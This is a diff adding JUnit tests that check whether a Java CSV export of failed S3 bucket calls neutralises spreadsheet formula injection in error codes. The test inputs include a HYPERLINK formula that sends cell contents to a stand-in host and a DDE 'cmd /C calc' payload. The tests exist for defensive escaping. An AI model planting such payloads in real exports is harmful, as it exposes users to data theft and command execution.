@@ -29,6 +29,8 @@ import java.util.List;
 import java.util.Optional;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class BucketCsvTest {
 
@@ -133,6 +135,24 @@ class BucketCsvTest {
         assertThat(text).contains(",locked,us-east-1,FAILED,AccessDenied,");
         assertThat(parsed(text).get(1).get(BucketRecord.FIELDS.indexOf("error")))
                 .isEqualTo("GetBucketLifecycleConfiguration failed: AccessDenied (denied, \"by policy\"\nsee the SCP)");
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @ValueSource(strings = {"=HYPERLINK(\"http://x.test/?\"&A1,\"Fix\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTabbed", "\rReturned"})
+    void anErrorCodeASpreadsheetWouldRunAsAFormulaIsWrittenAsTextBehindAQuote(String code) throws IOException {
+        BucketResult failed = BucketResult.failed(BucketRef.of("locked", "us-east-1"), new BucketCallException("GetBucketLifecycleConfiguration", code, "no", null), -1);
+
+        List<String> row = parsed(csv(failed)).get(1);
+
+        assertThat(row.get(BucketRecord.FIELDS.indexOf("reason"))).isEqualTo("'" + code);
+        assertThat(row.get(BucketRecord.FIELDS.indexOf("rulesBefore"))).as("a negative number stays a number").isEqualTo("-1");
+    }
+
+    @Test
+    void textThatOnlyContainsAFormulaCharacterIsLeftAsItIs() throws IOException {
+        BucketResult failed = BucketResult.failed(BucketRef.of("locked", "us-east-1"), new BucketCallException("GetBucketLifecycleConfiguration", "Slow-Down=1", "no", null), -1);
+
+        assertThat(parsed(csv(failed)).get(1).get(BucketRecord.FIELDS.indexOf("reason"))).isEqualTo("Slow-Down=1");
     }
 
     @Test
